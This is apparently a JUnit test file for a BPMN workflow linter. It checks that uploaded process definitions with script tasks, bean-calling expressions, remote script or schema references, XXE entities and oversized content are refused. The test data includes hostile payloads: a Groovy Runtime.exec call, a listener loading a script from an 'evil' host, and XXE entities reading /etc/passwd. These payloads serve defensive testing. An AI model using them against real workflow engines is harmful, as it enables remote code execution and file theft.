package dev.brickwork.workflow;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.groups.Tuple.tuple;

import dev.brickwork.forms.Problem;
import dev.brickwork.workflow.lint.BpmnLinter;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.nio.charset.StandardCharsets;
import java.util.List;

class BpmnLinterTest {

    private static final String HEAD = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n";
    private static final String OPEN = "<definitions xmlns=\"http://www.omg.org/spec/BPMN/20100524/MODEL\""
            + " xmlns:operaton=\"http://operaton.org/schema/1.0/bpmn\" xmlns:camunda=\"http://camunda.org/schema/1.0/bpmn\""
            + " targetNamespace=\"https://example.com\"><process id=\"p\" isExecutable=\"true\">"
            + "<startEvent id=\"start\"/><sequenceFlow id=\"f1\" sourceRef=\"start\" targetRef=\"x\"/>";
    private static final String CLOSE = "<sequenceFlow id=\"f2\" sourceRef=\"x\" targetRef=\"end\"/>"
            + "<endEvent id=\"end\"/></process></definitions>";

    /** A process start → x → end with x given by the test. */
    private static byte[] process(String x) {
        return (HEAD + OPEN + x + CLOSE).getBytes(StandardCharsets.UTF_8);
    }

    @Test
    void acceptsTheCompilersOwnOutput() {
        // given
        String xml = FlowCompilerTest.compile(Fixtures.contractFlow()).xml();

        // when
        List<Problem> problems = BpmnLinter.lintDeployable(xml.getBytes(StandardCharsets.UTF_8));

        // then
        assertThat(problems).isEmpty();
    }

    @Test
    void acceptsAPlainUserTask() {
        assertThat(BpmnLinter.lint(process("<userTask id=\"x\" name=\"Check\" operaton:assignee=\"u1\"/>"))).isEmpty();
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            script task            | <scriptTask id='x' scriptFormat='groovy'><script>java.lang.Runtime.getRuntime().exec('id')</script></scriptTask> | /bpmn/x | BPMN_SCRIPT_TASK
            operaton class         | <serviceTask id='x' operaton:class='com.example.Evil'/>                                | /bpmn/x | BPMN_JAVA_CLASS
            camunda class          | <serviceTask id='x' camunda:class='com.example.Evil'/>                                 | /bpmn/x | BPMN_JAVA_CLASS
            expression on a bean   | <serviceTask id='x' operaton:expression='${userService.deleteAll()}'/>                 | /bpmn/x | BPMN_EXPRESSION
            delegate not ours      | <serviceTask id='x' operaton:delegateExpression='${mailer}'/>                          | /bpmn/x | BPMN_DELEGATE_UNKNOWN
            external task          | <serviceTask id='x' operaton:type='external' operaton:topic='t'/>                      | /bpmn/x | BPMN_SERVICE_TASK_UNSUPPORTED
            assignee calling bean  | <userTask id='x' operaton:assignee='${users.admin()}'/>                                | /bpmn/x | BPMN_EXPRESSION
            task listener          | <userTask id='x'><extensionElements><operaton:taskListener class='com.example.L' event='create'/></extensionElements></userTask> | /bpmn/x | BPMN_ELEMENT_FORBIDDEN
            script in listener     | <userTask id='x'><extensionElements><operaton:executionListener event='start'><operaton:script scriptFormat='js' resource='http://evil/x.js'/></operaton:executionListener></extensionElements></userTask> | /bpmn/x | BPMN_ELEMENT_FORBIDDEN
            call activity          | <callActivity id='x' calledElement='other'/>                                          | /bpmn/x | BPMN_ELEMENT_FORBIDDEN
            expression in a name   | <userTask id='x' name='${runtime.exec()}'/>                                            | /bpmn/x | BPMN_EXPRESSION
            timer expression       | <userTask id='x'/><boundaryEvent id='t' attachedToRef='x'><timerEventDefinition id='td'><timeDuration>${bean.due()}</timeDuration></timerEventDefinition></boundaryEvent> | /bpmn/td | BPMN_EXPRESSION
            message boundary       | <userTask id='x'/><boundaryEvent id='t' attachedToRef='x'><messageEventDefinition id='m'/></boundaryEvent> | /bpmn/m | BPMN_ELEMENT_FORBIDDEN
            collection of a bean   | <userTask id='x'><multiInstanceLoopCharacteristics id='mi' operaton:collection='${hr.everyone()}'/></userTask> | /bpmn/mi | BPMN_EXPRESSION
            """)
    void refusesWhatCouldRunCode(String name, String element, String pointer, String code) {
        // when
        List<Problem> uploaded = BpmnLinter.lint(process(element.replace('\'', '"')));
        List<Problem> deployed = BpmnLinter.lintDeployable(process(element.replace('\'', '"')));

        // then
        assertThat(uploaded).extracting(Problem::pointer, Problem::code).contains(tuple(pointer, code));
        assertThat(deployed).extracting(Problem::pointer, Problem::code).contains(tuple(pointer, code));
    }

    @Test
    void refusesAFormFromElsewhereInWhatIsDeployed() {
        byte[] bpmn = process("<userTask id=\"x\" operaton:formKey=\"embedded:app:forms/a.html\"/>");
        assertThat(BpmnLinter.lintDeployable(bpmn)).extracting(Problem::pointer, Problem::code)
                .containsExactly(tuple("/bpmn/x", "BPMN_EXTERNAL_RESOURCE"));
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            form key on a start event | <userTask id='x' camunda:formKey='embedded:app:forms/a.html'/>   | /bpmn/x
            asynchronous continuation | <userTask id='x' camunda:asyncBefore='true' camunda:exclusive='false'/> | /bpmn/x
            generated form fields     | <userTask id='x'><extensionElements><camunda:formData><camunda:formField id='amount' type='long'/></camunda:formData></extensionElements></userTask> | /bpmn/x
            job retries               | <userTask id='x'><extensionElements><camunda:failedJobRetryTimeCycle>R3/PT5M</camunda:failedJobRetryTimeCycle></extensionElements></userTask> | /bpmn/x
            """)
    void warnsAboutWhatOnlyATasklistReadsInAnUpload(String name, String element, String pointer) {
        // when
        List<Problem> problems = BpmnLinter.lint(process(element.replace('\'', '"')));

        // then
        assertThat(problems).isNotEmpty().allMatch(p -> !p.isError());
        assertThat(problems).extracting(Problem::pointer, Problem::code).contains(tuple(pointer, "BPMN_IGNORED"));
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            a condition in the expression language | <conditionExpression>${amount &gt; 100000}</conditionExpression>
            a plain condition                      | <conditionExpression>amount &gt; 100000</conditionExpression>
            """)
    void leavesConditionsOfAnUploadToTheMapping(String name, String condition) {
        byte[] bpmn = process("<exclusiveGateway id=\"x\"/><userTask id=\"y\"/>"
                + "<sequenceFlow id=\"c\" sourceRef=\"x\" targetRef=\"y\">" + condition + "</sequenceFlow>");
        assertThat(BpmnLinter.lint(bpmn)).isEmpty();
        assertThat(BpmnLinter.lintDeployable(bpmn)).extracting(Problem::code).containsExactly("BPMN_EXPRESSION");
    }

    @Test
    void refusesADeferredExpressionInAnUpload() {
        byte[] bpmn = process("<exclusiveGateway id=\"x\"/><userTask id=\"y\"/><sequenceFlow id=\"c\" sourceRef=\"x\""
                + " targetRef=\"y\"><conditionExpression>#{amount}</conditionExpression></sequenceFlow>");
        assertThat(BpmnLinter.lint(bpmn)).extracting(Problem::pointer, Problem::code)
                .containsExactly(tuple("/bpmn/c", "BPMN_EXPRESSION"));
    }

    @Test
    void saysACamunda8FileIsNotRead() {
        byte[] bpmn = (HEAD + OPEN.replace("targetNamespace=", "xmlns:zeebe=\"http://camunda.org/schema/zeebe/1.0\" targetNamespace=")
                + "<userTask id=\"x\"><extensionElements><zeebe:assignmentDefinition assignee=\"demo\"/></extensionElements>"
                + "</userTask>" + CLOSE).getBytes(StandardCharsets.UTF_8);
        assertThat(BpmnLinter.lint(bpmn)).extracting(Problem::pointer, Problem::code, Problem::message)
                .containsExactly(tuple("/bpmn/x", "BPMN_ELEMENT_FORBIDDEN", "Camunda 8 (Zeebe) extensions are not read:"
                        + " draw the process for Camunda 7 (camunda:assignee, camunda:candidateGroups) or without an engine"));
    }

    @Test
    void acceptsWhatCamundaModelerWritesAboutItself() {
        byte[] bpmn = (HEAD + OPEN.replace("targetNamespace=", "xmlns:modeler=\"http://camunda.org/schema/modeler/1.0\""
                + " exporter=\"Camunda Modeler\" exporterVersion=\"5.28.0\" modeler:executionPlatform=\"Camunda Platform\""
                + " modeler:executionPlatformVersion=\"7.22.0\" targetNamespace=") + "<userTask id=\"x\"/>" + CLOSE)
                .getBytes(StandardCharsets.UTF_8);
        assertThat(BpmnLinter.lint(bpmn)).isEmpty();
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            condition calling a bean     | ${orderService.approve(execution)}
            condition in JUEL            | ${amount > 100000}
            condition with a method call | ${brickwork.condition(execution, 'a').getClass()}
            deferred expression          | #{brickwork.condition(execution, 'a')}
            """)
    void refusesConditionsThatAreNotOursInWhatIsDeployed(String name, String condition) {
        // given
        byte[] bpmn = process("<exclusiveGateway id=\"x\"/><userTask id=\"y\"/>"
                + "<sequenceFlow id=\"c\" sourceRef=\"x\" targetRef=\"y\"><conditionExpression>" + condition
                + "</conditionExpression></sequenceFlow>");

        // when
        List<Problem> problems = BpmnLinter.lintDeployable(bpmn);

        // then
        assertThat(problems).extracting(Problem::pointer, Problem::code).contains(tuple("/bpmn/c", "BPMN_EXPRESSION"));
    }

    @Test
    void refusesAScriptCondition() {
        byte[] bpmn = process("<exclusiveGateway id=\"x\"/><userTask id=\"y\"/><sequenceFlow id=\"c\" sourceRef=\"x\""
                + " targetRef=\"y\"><conditionExpression language=\"groovy\">true</conditionExpression></sequenceFlow>");
        assertThat(BpmnLinter.lint(bpmn)).extracting(Problem::code).contains("BPMN_SCRIPT_TASK");
    }

    @Test
    void refusesAnImport() {
        byte[] bpmn = (HEAD + OPEN.replace("<process", "<import importType=\"http://www.w3.org/2001/XMLSchema\""
                + " location=\"http://evil.example/x.xsd\" namespace=\"urn:x\"/><process")
                + "<userTask id=\"x\"/>" + CLOSE).getBytes(StandardCharsets.UTF_8);
        assertThat(BpmnLinter.lint(bpmn)).extracting(Problem::code).contains("BPMN_EXTERNAL_RESOURCE");
    }

    @Test
    void refusesAnXxePayloadWithoutReadingTheEntity() {
        // given
        byte[] bpmn = (HEAD + "<!DOCTYPE definitions [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
                + OPEN + "<userTask id=\"x\" name=\"&xxe;\"/>" + CLOSE).getBytes(StandardCharsets.UTF_8);

        // when
        List<Problem> problems = BpmnLinter.lint(bpmn);

        // then
        assertThat(problems).extracting(Problem::pointer, Problem::code).containsExactly(tuple("/bpmn", "BPMN_XXE"));
        assertThat(problems.get(0).message()).doesNotContain("root:");
    }

    @Test
    void refusesAnXxePayloadInUtf16() {
        byte[] bpmn = ("<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                + OPEN + "<userTask id=\"x\"/>" + CLOSE).getBytes(StandardCharsets.UTF_16);
        assertThat(BpmnLinter.lint(bpmn)).extracting(Problem::code).containsExactly("BPMN_XXE");
    }

    @Test
    void refusesAFileOfThreeMegabytes() {
        // given
        String padding = "<documentation>" + "x".repeat(3 * 1024 * 1024) + "</documentation>";

        // when
        List<Problem> problems = BpmnLinter.lint(process("<userTask id=\"x\">" + padding + "</userTask>"));

        // then
        assertThat(problems).extracting(Problem::code).containsExactly("BPMN_TOO_LARGE");
    }

    @Test
    void refusesMalformedXml() {
        assertThat(BpmnLinter.lint("<definitions".getBytes(StandardCharsets.UTF_8))).extracting(Problem::code)
                .containsExactly("BPMN_MALFORMED");
    }

    @Test
    void refusesABrokenReferenceThroughTheModel() {
        byte[] bpmn = (HEAD + OPEN + "<userTask id=\"x\"/><sequenceFlow id=\"f3\" sourceRef=\"x\" targetRef=\"nowhere\"/>"
                + CLOSE).getBytes(StandardCharsets.UTF_8);
        assertThat(BpmnLinter.lint(bpmn)).extracting(Problem::code).containsExactly("BPMN_INVALID");
    }
}
